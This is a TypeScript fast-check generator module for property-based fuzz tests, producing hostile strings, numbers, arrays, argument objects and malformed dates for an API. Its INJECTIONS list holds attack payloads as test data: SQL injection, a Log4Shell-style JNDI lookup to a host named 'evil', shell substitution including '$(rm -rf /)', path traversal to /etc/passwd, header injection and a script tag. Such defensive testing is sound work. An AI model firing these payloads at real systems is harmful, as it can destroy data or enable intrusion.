/**
 * fast-check generators for hostile input: strings that inject (SQL, shell, headers, query
 * separators, path traversal), unicode of every kind, huge and empty arrays, numbers that are
 * negative, fractional, huge or not numbers, absurd dates, and API records with fields missing,
 * null, of the wrong type, or zero dates.
 */
import fc from "fast-check";

/** A fixed seed keeps every run the same; FC_SEED=<n> explores other inputs. */
export const SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : 20_240_607;

export const INJECTIONS = [
    "' OR 1=1 --",
    '"; DROP TABLE tasks; --',
    "$" + "{jndi:ldap://evil/x}",
    "$(rm -rf /)",
    "`id`",
    "../../etc/passwd",
    "..\\..\\windows",
    "a&b=c",
    "a=b",
    "a&offset=999",
    "x?limit=1",
    "#frag",
    "%00",
    "%2F%2e%2e",
    "%",
    "%%",
    "+",
    "a+b",
    "a b",
    "\u0000",
    "\r\nX-Injected: 1",
    "inv-abc\ninv-def",
    "inv-abc,inv-def",
    "🚀",
    "ｉｎｖ-ａｂｃ",
    "inv-ABC",
    "<script>alert(1)</script>",
    "inv-",
    "invt-",
    " ",
    "",
    "\t",
    "\u202e",
    "\uFEFF",
    "\ud800",
    "a".repeat(129),
    "a".repeat(257),
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "toString",
    "SUCCESS",
    "0",
    "-1",
    "2",
    "1e9",
    "NaN",
    "Infinity",
    "{}",
    "[]",
    "true",
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
    { arbitrary: fc.string(), weight: 3 },
    { arbitrary: fc.string({ unit: "grapheme" }), weight: 2 },
    { arbitrary: fc.string({ unit: "binary" }), weight: 2 },
    { arbitrary: fc.constantFrom(...INJECTIONS), weight: 4 },
    { arbitrary: fc.stringMatching(/^(inv|invt|cmd|ins|lhins|mi)-[0-9a-z]{1,16}$/), weight: 4 },
    { arbitrary: fc.stringMatching(/^[\x21-\x7e]{1,40}$/), weight: 3 },
);

/** Numbers a limit or a count should never take, and some it may. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
    fc.integer({ min: -1_000_000, max: 20_000_000 }),
    fc.double(),
    fc.constantFrom(0, -0, 1, 0.5, -1, 1.5, 100, 101, 10_000_000, 10_000_001, Number.MAX_SAFE_INTEGER, 2 ** 53 + 2, NaN, Infinity, -Infinity, 1e308),
);

/** One large list built once (150 000 ids, past every documented or internal limit). */
const HUGE = Array.from({ length: 150_000 }, (_, i) => `invt-${i.toString(36)}`);

export const hostileArray: fc.Arbitrary<unknown[]> = fc.oneof(
    fc.array(hostileString, { maxLength: 12 }),
    // size "max": without it fast-check keeps arrays to about 10 items, under every limit this is meant to pass.
    fc.array(fc.stringMatching(/^(inv|invt|cmd|ins)-[0-9a-z]{1,10}$/), { minLength: 0, maxLength: 600, size: "max" }),
    fc.constant<unknown[]>([]),
    fc.constant(HUGE),
    fc.array(fc.anything({ maxDepth: 1 }), { maxLength: 5 }),
);

/** Any value an argument might be given. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
    { arbitrary: hostileString, weight: 5 },
    { arbitrary: hostileArray, weight: 3 },
    { arbitrary: hostileNumber, weight: 2 },
    { arbitrary: fc.boolean(), weight: 1 },
    { arbitrary: fc.constantFrom(null, undefined), weight: 1 },
    { arbitrary: fc.date({ noInvalidDate: false }), weight: 1 },
    { arbitrary: fc.anything({ maxDepth: 2 }), weight: 1 },
);

/**
 * An args object: some of the known names (and sometimes an unknown one), with hostile or plausible
 * values; or, in half the cases, plausible values only, so that the checks of an accepted request run
 * on many cases rather than on the few that dodge a hostile value in every one of several names.
 */
export function hostileArgs(known: readonly string[], plausible: Record<string, fc.Arbitrary<unknown>> = {}): fc.Arbitrary<Record<string, unknown>> {
    const entry = (k: string) => (plausible[k] ? fc.oneof({ arbitrary: plausible[k], weight: 3 }, { arbitrary: hostileValue, weight: 1 }) : hostileValue);
    const keys = Object.fromEntries(known.map((k) => [k, entry(k)]));
    // An unknown name in one case of five (fc.option's freq is the odds of *no* value: 1 in freq).
    const unknown = fc.tuple(
        fc.oneof(fc.constantFrom("instanceIds", "status ", "Limit", "secretkey", "__proto__", "constructor", "filters", " "), fc.string({ minLength: 1 })),
        hostileValue,
    );
    const hostile = fc
        .tuple(fc.record(keys, { requiredKeys: [] }), fc.oneof({ arbitrary: fc.constant(null), weight: 4 }, { arbitrary: unknown, weight: 1 }))
        .map(([args, extra]) => (extra ? { ...args, [extra[0]]: extra[1] } : args));
    const names = known.filter((k) => plausible[k]);
    if (names.length === 0) return hostile;
    // Each plausible name in one case of two, so that names that exclude each other are often apart.
    const plausibleOnly = fc
        .record(Object.fromEntries(names.map((k) => [k, fc.option(plausible[k], { freq: 2, nil: undefined })])))
        .map((r) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined)));
    return fc.oneof(hostile, plausibleOnly);
}

/** The fields of a time, some out of range, written with or without a zone. */
export const timeFields = fc.record({
    y: fc.oneof(fc.integer({ min: 0, max: 9999 }), fc.constantFrom(0, 1, 99, 100, 1969, 1970, 2024, 9999)),
    mo: fc.integer({ min: 0, max: 13 }),
    d: fc.integer({ min: 0, max: 32 }),
    h: fc.integer({ min: 0, max: 25 }),
    mi: fc.integer({ min: 0, max: 61 }),
    s: fc.integer({ min: 0, max: 61 }),
    zone: fc.constantFrom("Z", "z", "+00:00", "+08:00", "-05:30", "+0800", "+14:00", "-12:00", ""),
    sep: fc.constantFrom("T", " "),
});
export type TimeFields = { y: number; mo: number; d: number; h: number; mi: number; s: number; zone: string; sep: string };

export const pad = (n: number, w = 2) => String(n).padStart(w, "0");
export const writeTime = (t: TimeFields) => `${pad(t.y, 4)}-${pad(t.mo)}-${pad(t.d)}${t.sep}${pad(t.h)}:${pad(t.mi)}:${pad(t.s)}${t.zone}`;

/** Minutes east of UTC of a zone suffix. */
export function zoneMinutes(zone: string): number {
    if (zone === "" || zone.toUpperCase() === "Z") return 0;
    const m = /^([+-])(\d{2}):?(\d{2})$/.exec(zone)!;
    return (m[1] === "-" ? -1 : 1) * (Number(m[2]) * 60 + Number(m[3]));
}

/** The instant the fields name, computed independently of the code under test; undefined if they name none. */
export function instantOf(t: TimeFields, zoneOffsetMinutes: number): number | undefined {
    // ISO 8601 allows 24:00:00 for the end of a day, the next day's midnight.
    const endOfDay = t.h === 24 && t.mi === 0 && t.s === 0;
    if (t.mo < 1 || t.mo > 12 || t.d < 1 || (t.h > 23 && !endOfDay) || t.mi > 59 || t.s > 59) return undefined;
    const daysIn = new Date(Date.UTC(2000, t.mo, 0)).getUTCDate() - (t.mo === 2 && !leap(t.y) ? 1 : 0);
    if (t.d > daysIn) return undefined;
    const d = new Date(0);
    d.setUTCFullYear(t.y, t.mo - 1, t.d);
    d.setUTCHours(t.h, t.mi, t.s, 0);
    return d.getTime() - zoneOffsetMinutes * 60_000;
}
const leap = (y: number) => (y % 4 === 0 && y % 100 !== 0) || y % 400 === 0;

/** A record field: a plausible value, or null, missing, of the wrong type, a zero date, hostile text. */
export function field(plausible: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
    return fc.oneof(
        { arbitrary: plausible, weight: 6 },
        { arbitrary: fc.constantFrom(null, undefined, "", "0000-00-00T00:00:00Z", "0000-00-00 00:00:00", 0, -1, true, [], {}), weight: 2 },
        { arbitrary: hostileString, weight: 1 },
        { arbitrary: hostileNumber, weight: 1 },
        { arbitrary: fc.anything({ maxDepth: 1 }), weight: 1 },
    );
}

/** An object with the given fields, each of which may be dropped. */
export function record(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
    return fc
        .record(Object.fromEntries(Object.entries(fields).map(([k, a]) => [k, field(a)])), { requiredKeys: [] })
        .map((r) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined)));
}

export const wireTime = fc.oneof(
    fc
        .date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true })
        .map((d) => d.toISOString().replace(/\.\d{3}Z$/, "+00:00")),
    fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true }).map((d) =>
        d
            .toISOString()
            .replace("T", " ")
            .replace(/\.\d{3}Z$/, ""),
    ),
    timeFields.map(writeTime),
);
